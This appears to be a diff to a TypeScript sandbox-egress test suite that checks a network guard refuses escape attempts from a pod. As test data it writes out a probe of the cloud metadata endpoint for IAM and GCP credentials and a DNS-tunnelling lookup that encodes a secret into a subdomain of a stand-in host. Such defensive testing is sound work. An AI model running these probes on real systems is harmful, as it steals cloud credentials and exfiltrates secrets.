@@ -14,7 +14,7 @@ export const NEIGHBOURS: readonly Attempt[] = [
   {
     name: 'the same over UDP',
     why: 'the guard refuses UDP between pods too',
-    ends: REFUSED,
+    ends: /^(?:(?:EPERM|ECONNREFUSED)(?:, |$))+$/,
     run: ({ relay }) =>
       python(
         `
@@ -67,7 +67,10 @@ for port in (9999, 53): words.append(attempt(lambda: datagram(port)))`,
       const plain = { host: '169.254.169.254', port: 80 };
       const path = '/latest/meta-data/iam/security-credentials/';
       const first = await ask(plain, get(path, '169.254.169.254'));
-      const second = await ask(plain, get('/computeMetadata/v1/', 'metadata.google.internal', 'Metadata-Flavor: Google'));
+      const second = await ask(
+        plain,
+        get('/computeMetadata/v1/', 'metadata.google.internal', 'Metadata-Flavor: Google'),
+      );
       const direct = await together([8080, 8775, 1338].map((port) => tcp('169.254.169.254', port)));
       return [first, second, direct].map((text) => text.replace(/ \[.*/, '')).join(', ');
     },
@@ -87,7 +90,7 @@ for port in (9999, 53): words.append(attempt(lambda: datagram(port)))`,
   {
     name: 'names as letters: DNS by the cluster’s own name server',
     why: 'out of scope: the question gets to the name server, which answers for itself; see docs/capture.md',
-    ends: /^(?:EAI_\w+|gaierror|answered)$/,
+    ends: /Name or service not known|No address associated|answered/,
     run: () =>
       python(`
 words.append(attempt(lambda: socket.getaddrinfo("c2VjcmV0LW9mLXRoZS1hZ2VudA.tunnel.example.com", 443) and "answered"))`),
